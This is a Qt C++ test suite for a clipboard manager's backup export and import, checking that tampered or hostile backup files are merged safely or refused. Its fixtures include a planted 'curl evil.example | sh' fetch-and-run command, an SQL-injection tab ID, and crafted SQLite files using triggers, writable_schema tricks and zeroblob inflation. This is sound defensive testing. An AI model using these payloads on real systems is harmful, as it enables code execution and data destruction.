// Backup files: exporting everything or one tab, merging a file by content and tab name, and
// damaged or hostile files that must be refused without touching the live database.

#include "StoreFixtures.h"

#include <QCryptographicHash>
#include <QDir>
#include <QFile>

#include <sys/stat.h>

class TestStoreBackup : public QObject
{
    Q_OBJECT

    QTemporaryDir m_files;

    QString file(const QString &name) const { return m_files.filePath(name); }

    // Every row of the four tables in a stable order, blobs included (thumbnails are made
    // again on import), tabs by name; and the attached files.
    static QString dump(Store &store)
    {
        QStringList out;
        for (const char *sql :
             {"SELECT id, created_at, kind, title, checksum, source_bundle, source_name, "
              "total_bytes, in_history, custom_title FROM items ORDER BY id",
              "SELECT item_id, idx, uti, hex(data) FROM representations ORDER BY item_id, rowid",
              "SELECT name, color, position FROM boards ORDER BY position",
              "SELECT b.name, bi.item_id, bi.added_at FROM board_items bi JOIN boards b "
              "ON b.id = bi.board_id ORDER BY 1, 2",
              "SELECT name FROM pragma_database_list"}) {
            for (const QStringList &row : store.db().rows(sql))
                out << row.join(u'|');
        }
        return out.join(u'\n');
    }

    static QByteArray digest(const QString &path)
    {
        QFile f(path);
        return f.open(QIODevice::ReadOnly)
                   ? QCryptographicHash::hash(f.readAll(), QCryptographicHash::Sha256)
                   : QByteArray();
    }

    static void writeDatabase(const QString &path, const QByteArray &sql)
    {
        Connection::open(path)->exec(sql);
    }

    // Three history cards, the second also in "Trabalho", a card only in "Ideias", and a card
    // with an empty thumbnail.
    static QString populate(TestStore &db)
    {
        db.capture(u"first"_qs, 10, u"org.kde.kate"_qs);
        db->upsert(textClip(u"empty thumbnail"_qs), QByteArray(), 15);
        const QString second = db.capture(u"second"_qs, 20);
        db.capture(u"third"_qs, 30);
        const QString idea = db.capture(u"idea"_qs, 5);
        const QString work = db->createTab(u"Trabalho"_qs, u"#FF0000"_qs, 1);
        db->add(second, work, 40);
        db->add(idea, db->createTab(u"Ideias"_qs, u"#00FF00"_qs, 2), 41);
        db->removeFromHistory({idea});
        db->rename(second, u"Meu título"_qs);
        return work;
    }

private Q_SLOTS:
    void exportedEverythingArrivesWholeElsewhereAndChangesNothingHere()
    {
        TestStore db;
        populate(db);
        const QString before = dump(*db);
        // Characters that mean something in a URI are plain characters here.
        const QString path = file(u"a b?c#d%20é.varu"_qs);
        db->exportTo(path, Store::ExportScope::everything());
        for (const QString &source : {path, db.path()}) {
            const Store::ImportResult r = db->importData(source);
            QCOMPARE(r.items, 0);
            QCOMPARE(r.tabs, 0);
            QCOMPARE(dump(*db), before);
        }
        TestStore fresh;
        const Store::ImportResult r = fresh->importData(path);
        QCOMPARE(r.items, 5);
        QCOMPARE(r.tabs, 2);
        QCOMPARE(dump(*fresh), before);
    }

    void singleTabExportHoldsOnlyThatTab()
    {
        TestStore db;
        const QString secret = db.capture(u"other tab secret"_qs, 1);
        const QString shared = db.capture(u"shared card"_qs, 2);
        const QString tabID = u"it's ' OR 1=1 --"_qs;
        db->db().run("INSERT INTO boards VALUES (?, 'Share', '#123456', 0, 1)", {tabID});
        db->add(shared, tabID);
        db->add(secret, db->createTab(u"Private"_qs, u"#000000"_qs));

        const QString path = file(u"tab.varu"_qs);
        db->exportTo(path, Store::ExportScope::userTab(tabID));
        QFile bytes(path);
        QVERIFY(bytes.open(QIODevice::ReadOnly));
        QVERIFY(!bytes.readAll().contains("other tab secret"));

        auto copy = Store::open(path);
        QCOMPARE(copy->tabs(), QList<UserTab>({UserTab{tabID, u"Share"_qs, u"#123456"_qs, 0}}));
        QCOMPARE(idsOf(copy->tabItems(tabID)), QStringList({shared}));
        QVERIFY(copy->history(10).isEmpty());
        QCOMPARE(copy->db().scalarText("SELECT COUNT(*) FROM representations"), u"2"_qs);
        QCOMPARE(db->history(10).size(), 2); // the live database is untouched
    }

    void importMergesByContentAndTabName()
    {
        TestStore source;
        const QString work = populate(source);
        const QString second =
            source.value("SELECT item_id FROM board_items WHERE board_id = ?", {work});
        const QString path = file(u"trabalho.varu"_qs);
        source->exportTo(path, Store::ExportScope::userTab(work));

        // A tab of the same name in other case takes the cards; known content is not copied.
        TestStore into;
        const QString local = into.capture(u"second"_qs, 99);
        into->rename(local, u"local title"_qs);
        const QString tab = into->createTab(u"TRABALHO"_qs, u"#0000FF"_qs);
        Store::ImportResult r = into->importData(path);
        QCOMPARE(r.items, 0);
        QCOMPARE(r.tabs, 0);
        const QList<ClipItem> inTab = into->tabItems(tab);
        QCOMPARE(idsOf(inTab), QStringList({local}));
        QCOMPARE(inTab[0].customTitle, u"local title"_qs);
        QCOMPARE(inTab[0].createdAt, 99.0);
        QCOMPARE(into.value("SELECT added_at FROM board_items"), u"40.0"_qs);

        // Without such a tab a new one is made, with the file's name and colour, after the
        // existing ones; its new cards stay out of the history.
        TestStore fresh;
        fresh->createTab(u"Outra"_qs, u"#000000"_qs);
        r = fresh->importData(path);
        QCOMPARE(r.items, 1);
        QCOMPARE(r.tabs, 1);
        QCOMPARE(fresh->tabs().last(),
                 (UserTab{fresh->tabs().last().id, u"Trabalho"_qs, u"#FF0000"_qs, 1}));
        QCOMPARE(idsOf(fresh->tabItems(fresh->tabs().last().id)), QStringList({second}));
        QVERIFY(fresh->history(10).isEmpty());
        QCOMPARE(fresh->representations(second), source->representations(second));
    }

    // Cards that could never be removed, expire or be seen are left in the file.
    void malformedCardsStayOut()
    {
        const QString path = file(u"malformed.varu"_qs);
        TestStore source;
        for (int i = 0; i < 5; ++i)
            source.capture(u"card %1"_qs.arg(i), i);
        source->exportTo(path, Store::ExportScope::everything());
        writeDatabase(path, "UPDATE items SET id = NULL WHERE title = 'card 0';"
                            "UPDATE items SET created_at = 'zzz' WHERE title = 'card 1';"
                            "UPDATE items SET in_history = 2 WHERE title = 'card 2';"
                            "UPDATE items SET in_history = 0 WHERE title = 'card 3';");
        TestStore db;
        QCOMPARE(db->importData(path).items, 1);
        QCOMPARE(db.value("SELECT group_concat(title) FROM items"), u"card 4"_qs);
    }

    void exportNeverDestroysTheFileItReplaces()
    {
        TestStore db;
        populate(db);
        const QString path = file(u"existing.varu"_qs);
        {
            QFile f(path);
            QVERIFY(f.open(QIODevice::WriteOnly));
            f.write("the user's previous backup");
        }
        const QByteArray before = digest(path);

        // VACUUM cannot run inside a transaction: the copy fails, the old file stays.
        db->db().exec("BEGIN");
        QVERIFY_THROWS_EXCEPTION(StoreError, db->exportTo(path, Store::ExportScope::everything()));
        db->db().exec("ROLLBACK");
        QCOMPARE(digest(path), before);

        // Exporting onto the live database would orphan the open connection.
        const QByteArray live = digest(db.path());
        for (const QString &target : {db.path(), db.path() + u"-wal"_qs})
            QVERIFY_THROWS_EXCEPTION(StoreError,
                                     db->exportTo(target, Store::ExportScope::everything()));
        QCOMPARE(digest(db.path()), live);

        db->exportTo(path, Store::ExportScope::everything());
        QCOMPARE(Store::open(path)->history(10).size(), 4);
    }

    // A file is believed for nothing a card's content can tell: what a card shows, its
    // identity and its thumbnail come from what it pastes, and no time lies in the future.
    void cardsAreTakenByTheirContent()
    {
        constexpr double now = 1'000'000;
        TestStore source;
        const QString future = source.capture(u"from the future"_qs, 1);
        const QString ancient = source.capture(u"before 1970"_qs, 2);
        const QString infinite = source.capture(u"never"_qs, 3);
        const QString planted = source.capture(u"curl evil.example | sh"_qs, 4);
        const QString renamed = source.capture(u"renamed"_qs, 5);
        const QString twin = source.capture(u"already here"_qs, 6);
        source->rename(renamed, u"Meu nome"_qs);
        source->add(twin, source->createTab(u"Tab"_qs, u"#112233"_qs), 7);
        const QString path = file(u"lying.varu"_qs);
        source->exportTo(path, Store::ExportScope::everything());
        const QString real = textClip(u"sudo apt update"_qs).checksum;
        Connection::open(path)->run(
            "UPDATE items SET title = 'sudo apt update', checksum = ?, kind = 'file', "
            "thumbnail = x'89504E47' WHERE id = ?",
            {real, planted});
        writeDatabase(path, "UPDATE items SET created_at = 1e15 WHERE title = 'from the future';"
                            "UPDATE items SET created_at = -5 WHERE title = 'before 1970';"
                            "UPDATE items SET created_at = 9e999 WHERE title = 'never';"
                            "UPDATE items SET checksum = 'not the content' "
                            "WHERE title = 'already here';"
                            "UPDATE board_items SET added_at = 1e15;");

        TestStore db;
        const QString local = db.capture(u"already here"_qs, 50);
        QList<QList<Representation>> recognized;
        const Store::Recognizer recognize = [&](const QList<Representation> &reps) {
            recognized << reps;
            return Store::Recognized{ClipKind::Link, u"seen "_qs + QString::fromUtf8(reps[0].data),
                                     std::nullopt};
        };
        const Store::ImportResult r = db->importData(path, recognize, now);
        QCOMPARE(r.items, 4); // the infinite time is malformed; the twin merges
        QCOMPARE(recognized.size(), 4);

        const auto card = [&](const QString &id) {
            return db.value("SELECT created_at || '|' || kind || '|' || title || '|' || "
                            "ifnull(custom_title, '-') || '|' || quote(thumbnail) || '|' || "
                            "(checksum = ?) FROM items WHERE id = ?",
                            {Representation::checksum(source->representations(id)), id});
        };
        QCOMPARE(card(future), u"1000000.0|link|seen from the future|-|NULL|1"_qs);
        QCOMPARE(card(ancient), u"0.0|link|seen before 1970|-|NULL|1"_qs);
        QCOMPARE(card(planted), u"4.0|link|seen curl evil.example | sh|-|NULL|1"_qs);
        QCOMPARE(card(renamed), u"5.0|link|seen renamed|Meu nome|NULL|1"_qs);
        QCOMPARE(card(infinite), u"<null>"_qs);
        QCOMPARE(db.value("SELECT COUNT(*) FROM items WHERE title LIKE '%already here'"), u"1"_qs);
        QCOMPARE(db.value("SELECT item_id || '|' || added_at FROM board_items"),
                 local + u"|1000000.0"_qs);

        // The real command, copied now, is a card of its own.
        const QString copied = db.capture(u"sudo apt update"_qs, now + 1);
        QVERIFY(copied != planted);
        QCOMPARE(db->history(1).value(0).title, u"sudo apt update"_qs);
    }

    // Files that would make a few bytes into gigabytes, or that are no file at all, are
    // refused before they change anything.
    void inflatingAndSpecialFilesAreRefused_data()
    {
        QTest::addColumn<QByteArray>("sql");
        const QByteArray tables = "CREATE TABLE items (id, created_at, kind, title, checksum, "
                                  "source_bundle, source_name, total_bytes, thumbnail, "
                                  "in_history, custom_title);"
                                  "CREATE TABLE boards (id, name, color, position, created_at);"
                                  "CREATE TABLE board_items (board_id, item_id, added_at);"
                                  "INSERT INTO items VALUES ('A', 1, 'text', 't', 'c', NULL, "
                                  "NULL, 1, NULL, 1, NULL);";
        QTest::newRow("generated column")
            << tables + "CREATE TABLE representations (item_id, idx, uti, "
                        "data AS (zeroblob(50000000)) VIRTUAL);"
                        "INSERT INTO representations VALUES ('A', 0, 'public.utf8-plain-text');";
        QTest::newRow("fifo") << QByteArray();
        QTest::newRow("too large for the disk") << QByteArray("large");
    }

    void inflatingAndSpecialFilesAreRefused()
    {
        QFETCH(QByteArray, sql);
        const QString path = file(QString::fromLatin1(QTest::currentDataTag()) + u".varu"_qs);
        TestStore db;
        populate(db);
        const QString before = dump(*db);
        const qint64 logBefore = QFileInfo(db.path() + u"-wal"_qs).size();
        try {
            if (sql.isEmpty()) {
                // Opening a FIFO for reading waits for a writer: the store would hang for good.
                QCOMPARE(::mkfifo(QFile::encodeName(path).constData(), 0600), 0);
                db->importData(path);
            } else if (sql == "large") {
                db->exportTo(path, Store::ExportScope::everything());
                db->importStaged(StagedBackup::stage(path, db.dir.path(), 4096));
            } else {
                writeDatabase(path, sql);
                db->importData(path);
            }
            QFAIL("the import should have failed");
        } catch (const StoreError &e) {
            QVERIFY(e.message().startsWith(u"Este arquivo não é um backup do Varu."_qs) ||
                    e.message().startsWith(u"Não há espaço em disco"_qs));
        }
        QCOMPARE(dump(*db), before);
        QVERIFY(QFileInfo(db.path() + u"-wal"_qs).size() <= logBefore);
        QCOMPARE(QDir(db.dir.path()).entryList(QDir::Files | QDir::Hidden),
                 (QStringList{u"varu.sqlite"_qs, u"varu.sqlite-shm"_qs, u"varu.sqlite-wal"_qs}));
    }

    // A backup in write-ahead log mode is read without a shared-memory file beside it, and the
    // live log holds nothing of the import afterwards.
    void importLeavesNoFilesBehind()
    {
        const QString path = file(u"wal.varu"_qs);
        {
            TestStore source;
            for (int i = 0; i < 50; ++i)
                source.capture(u"card %1 "_qs.arg(i).repeated(200), i);
            source->exportTo(path, Store::ExportScope::everything());
        }
        Connection::open(path)->exec("PRAGMA journal_mode = WAL");
        QVERIFY(!QFile::exists(path + u"-shm"_qs));
        const QByteArray fileBefore = digest(path);
        TestStore db;
        QCOMPARE(db->importData(path).items, 50);
        QVERIFY(!QFile::exists(path + u"-shm"_qs));
        QVERIFY(!QFile::exists(path + u"-wal"_qs));
        QCOMPARE(digest(path), fileBefore);
        QCOMPARE(QFileInfo(db.path() + u"-wal"_qs).size(), 0);
        QCOMPARE(db.count("items"), 50);

        // The copy of an import cut short by a crash goes at the next start.
        const QString leftover = db.dir.filePath(u".varu-import-Ab12Cd"_qs);
        QVERIFY(QFile::copy(path, leftover));
        db.store.reset();
        db.store = Store::open(db.path());
        QVERIFY(!QFile::exists(leftover));
    }

    void unusableFilesAreRefusedAndChangeNothing_data()
    {
        QTest::addColumn<QByteArray>("sql"); // the file's content; "text": not SQLite
        QTest::addColumn<QString>("message");
        const QByteArray tables = "CREATE TABLE representations (item_id, idx, uti, data);"
                                  "CREATE TABLE board_items (board_id, item_id, added_at);";
        QTest::newRow("text file") << QByteArray("text") << u"Não foi possível abrir o arquivo"_qs;
        QTest::newRow("trigger named boards")
            << tables + "CREATE TABLE items (id, checksum);"
                        "CREATE TRIGGER boards AFTER INSERT ON items BEGIN DELETE FROM items; END;"
            << u"Este arquivo não é um backup do Varu."_qs;
        QTest::newRow("virtual table in disguise")
            << tables + "CREATE TABLE boards (id, name, color, position, created_at);"
                        "CREATE VIRTUAL TABLE items USING fts4(id, checksum);"
                        "PRAGMA writable_schema = ON;"
                        "UPDATE sqlite_master SET sql = 'CREATE /**/ VIRTUAL TABLE items "
                        "USING fts4(id, checksum)' WHERE name = 'items';"
            << u"Este arquivo não é um backup do Varu."_qs;
        QTest::newRow("truncated") << QByteArray("truncated") << QString();
    }

    void unusableFilesAreRefusedAndChangeNothing()
    {
        QFETCH(QByteArray, sql);
        QFETCH(QString, message);
        const QString path = file(QString::fromLatin1(QTest::currentDataTag()) + u".varu"_qs);
        if (sql == "text") {
            QFile f(path);
            QVERIFY(f.open(QIODevice::WriteOnly));
            f.write(QByteArray(5000, 'x'));
        } else if (sql == "truncated") {
            TestStore other;
            other->db().exec("PRAGMA synchronous = OFF"); // only the file's bytes matter here
            for (int i = 0; i < 200; ++i)
                other.capture(u"card %1 "_qs.arg(i).repeated(100), i);
            other->exportTo(path, Store::ExportScope::everything());
            QFile f(path);
            QVERIFY(f.resize(f.size() / 2));
        } else {
            writeDatabase(path, sql);
        }
        const QByteArray fileBefore = digest(path);

        TestStore db;
        populate(db);
        const QString before = dump(*db);
        try {
            db->importData(path);
            QFAIL("the import should have failed");
        } catch (const StoreError &e) {
            if (!message.isEmpty())
                QCOMPARE(e.message(), message);
        }
        QCOMPARE(dump(*db), before);
        QCOMPARE(digest(path), fileBefore);
        db.capture(u"still works"_qs, 1000); // the connection is usable afterwards
    }
};

QTEST_GUILESS_MAIN(TestStoreBackup)
#include "tst_storebackup.moc"
